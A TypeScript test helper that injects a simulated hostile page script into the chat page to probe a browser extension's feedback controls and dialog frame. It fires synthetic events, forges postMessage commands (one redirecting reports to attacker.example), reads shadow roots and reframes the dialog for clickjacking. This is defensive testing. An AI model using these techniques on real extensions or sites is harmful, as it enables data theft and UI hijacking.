// A hostile page script, run in the chat page's own world before anything else: it keeps
// clicking, typing and submitting on everything of the extension it can reach, posts messages at
// the window and every frame, reads and rewrites the open shadow roots, and, given the
// extension's id (a store extension's id is public), frames the dialog page itself. What it
// learns is kept in window.__hostile for the test to inspect.

export interface HostileLog {
  /** Rounds of synthetic events fired at the controls and the dialog frame. */
  synthetic: number;
  /** Messages posted at the window and at frames. */
  posted: number;
  /** Everything read from the extension's DOM, messages received, resource entries: the test looks for secrets in it. */
  seen: string[];
  /** Whether it could frame the dialog with an address it read from the page. */
  reframed: boolean;
  /** How the extension's runtime API answered the page (it should not exist for it). */
  runtime: string[];
}

/** Passed to page.addInitScript: it is serialised, so it may use nothing from this module. */
export function hostile(extensionId: string): void {
  // Playwright runs init scripts in every frame, the extension's own included: the attacker is the chat page only.
  if (location.origin !== 'https://claude.ai' || window !== window.top) return;
  const log: HostileLog = { synthetic: 0, posted: 0, seen: [], reframed: false, runtime: [] };
  (window as unknown as { __hostile: HostileLog }).__hostile = log;
  const known = new Set<string>();
  const note = (kind: string, value: unknown) => {
    const line = `${kind}: ${String(value).slice(0, 2_000)}`;
    if (known.has(line) || known.size >= 20_000) return;
    known.add(line);
    log.seen.push(line);
  };
  addEventListener('message', (e) => note('window-message', JSON.stringify(e.data)), true);

  const fire = (el: Element) => {
    (el as HTMLElement).click?.();
    for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click', 'dblclick', 'auxclick']) {
      el.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, cancelable: true }));
    }
    for (const key of ['Enter', ' ', 'Tab', 'Escape']) {
      el.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
      el.dispatchEvent(new KeyboardEvent('keyup', { key, bubbles: true, composed: true }));
    }
    for (const type of ['input', 'change', 'submit', 'focus']) el.dispatchEvent(new Event(type, { bubbles: true, composed: true }));
  };
  const fakeMessages = [
    { type: 'draft:put', id: crypto.randomUUID(), draft: { site: 'claude.ai', rating: 'helpful' } },
    { type: 'report:send', endpoint: 'https://attacker.example/v1/feedback', envelope: {} },
    { type: 'history:clear' },
    'send', 'Send feedback',
  ];
  const postAll = (target: Window) => {
    for (const m of fakeMessages) target.postMessage(m, '*');
    log.posted += fakeMessages.length;
  };

  /** What a page script can learn about, and do to, the dialog frame. */
  const probeDialog = (host: Element) => {
    note('dialog-host', host.outerHTML);
    const root = host.shadowRoot;
    if (!root) return note('dialog-root', 'closed');
    for (const frame of root.querySelectorAll('iframe')) {
      note('frame-src', frame.src);
      note('frame-attributes', [...frame.attributes].map((a) => `${a.name}=${a.value}`).join(' '));
      try {
        note('frame-document', frame.contentDocument?.documentElement.outerHTML ?? 'null');
      } catch (e) {
        note('frame-document-error', (e as Error).name);
      }
      try {
        note('frame-href', frame.contentWindow?.location.href);
      } catch (e) {
        note('frame-href-error', (e as Error).name);
      }
      if (frame.contentWindow) postAll(frame.contentWindow);
      fire(frame);
      // The exploit: with the address known, the page shows the dialog in a frame of its own
      // (invisible, under the cursor, …) and lures a click.
      if (frame.src.includes('#') && !log.reframed) {
        log.reframed = true;
        const copy = document.createElement('iframe');
        copy.id = 'hostile-copy';
        copy.src = frame.src;
        document.body.append(copy);
      }
    }
  };

  // The quickest observer there is: sees the dialog host in the same task it is added.
  new MutationObserver((records) => {
    for (const r of records) {
      for (const n of r.addedNodes) if (n instanceof Element && n.matches('[data-chat-feedback-dialog]')) probeDialog(n);
    }
  }).observe(document, { childList: true, subtree: true });

  const tick = () => {
    for (const host of document.querySelectorAll('[data-chat-feedback-controls]')) {
      const root = host.shadowRoot;
      if (!root) continue;
      for (const button of root.querySelectorAll('button')) {
        fire(button);
        button.setAttribute('aria-pressed', 'true');
      }
      for (const input of root.querySelectorAll('input, textarea, select')) {
        (input as HTMLInputElement).value = 'HOSTILE';
        (input as HTMLInputElement).checked = true;
        fire(input);
      }
      // Rewrite what it can: the group's name, extra text beside the buttons.
      const group = root.querySelector('[role=group]');
      group?.setAttribute('aria-label', 'HOSTILE');
      if (group && !group.querySelector('.hostile')) group.insertAdjacentHTML('beforeend', '<span class="hostile">HOSTILE</span>');
    }
    log.synthetic++;
    for (const host of document.querySelectorAll('[data-chat-feedback-dialog]')) probeDialog(host);
    postAll(window);
    for (let i = 0; i < window.frames.length; i++) postAll(window.frames[i]!);
    for (const entry of performance.getEntriesByType('resource')) note('resource', entry.name);
    const chromeApi = (globalThis as { chrome?: { runtime?: { sendMessage?: (...a: unknown[]) => unknown } } }).chrome;
    try {
      if (chromeApi?.runtime?.sendMessage) chromeApi.runtime.sendMessage(extensionId, { type: 'history:clear' }, () => {});
      else if (log.runtime.length < 3) log.runtime.push('no runtime.sendMessage');
    } catch (e) {
      if (log.runtime.length < 3) log.runtime.push(String(e));
    }
  };
  setInterval(tick, 40);

  // A dialog frame of the page's own, for an id it made up.
  addEventListener('DOMContentLoaded', () => {
    const own = document.createElement('iframe');
    own.id = 'hostile-own';
    own.src = `chrome-extension://${extensionId}/src/dialog/index.html#${crypto.randomUUID()}`;
    own.style.cssText = 'width:600px;height:300px';
    document.body.append(own);
  });
}
